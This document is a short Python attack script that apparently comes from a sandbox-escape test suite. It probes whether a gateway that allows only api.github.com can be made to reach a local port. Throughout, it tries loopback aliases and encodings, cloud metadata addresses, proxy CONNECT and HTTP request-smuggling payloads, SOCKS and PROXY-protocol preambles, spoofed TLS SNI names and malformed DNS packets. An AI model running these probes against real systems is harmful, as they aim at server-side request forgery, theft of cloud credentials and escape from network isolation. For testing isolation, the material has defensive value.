# attack: network/by-the-gateway
# oracle: network
# imports: socket, ssl
# tools:
# source: own
# note: a box that may reach api.github.com asks its gateway for this machine, by every name and every word
import socket, ssl, struct
port = {{PORT}}
targets = ["127.0.0.1", "localhost", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "[::1]", "::ffff:127.0.0.1", "api.github.com.", "127.0.0.1.nip.io",
           "localhost.localdomain", "host.docker.internal", "169.254.169.254", "metadata.google.internal", "api.github.com@127.0.0.1"]
for name in targets:
    for to in (port, 80, 443):
        try:
            with socket.create_connection((name, to), timeout=0.5) as s:
                s.settimeout(0.5)
                s.sendall(f"GET / HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode())
                print(name, to, s.recv(300))
        except (OSError, UnicodeError) as error:
            print(name, to, error)
words = [f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n", f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
         f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: api.github.com\r\n\r\n", f"GET //127.0.0.1:{port}/ HTTP/1.1\r\nHost: api.github.com\r\nX-Forwarded-Host: 127.0.0.1:{port}\r\n\r\n",
         f"POST / HTTP/1.1\r\nHost: api.github.com\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
         "\x05\x01\x00", "\x04\x01" + chr(port >> 8) + chr(port & 255) + "\x7f\x00\x00\x01x\x00", f"PROXY TCP4 1.1.1.1 127.0.0.1 1 {port}\r\n"]
for said in words:
    for to in (80, 443):
        try:
            with socket.create_connection(("api.github.com", to), timeout=0.5) as s:
                s.settimeout(0.5)
                s.sendall(said.encode("latin-1"))
                print(said[:20], s.recv(300))
        except OSError as error:
            print(said[:20], error)
for name in ("127.0.0.1", "localhost", "evil.example"):
    try:
        with socket.create_connection(("api.github.com", 443), timeout=0.5) as s:
            s.settimeout(0.5)
            ssl._create_unverified_context().wrap_socket(s, server_hostname=name).sendall(b"GET / HTTP/1.1\r\n\r\n")
    except OSError as error:
        print(name, error)
# questions that the resolver may trip over: pointers, many names, lengths beyond the end, updates, other classes
base = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0)
for rest in (b"\xc0\x0c\0\1\0\1", b"\x3f" + b"a" * 10, b"\0\0\1\0\1", b"\x09localhost\0\0\xff\0\xff", b"\xff" * 480, b"\x03" + b"\xff" * 3 + b"\0\0\1\0\1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        s.sendto(base + rest, ("127.0.0.1", 53))
        try:
            print(s.recv(600))
        except OSError as error:
            print(error)
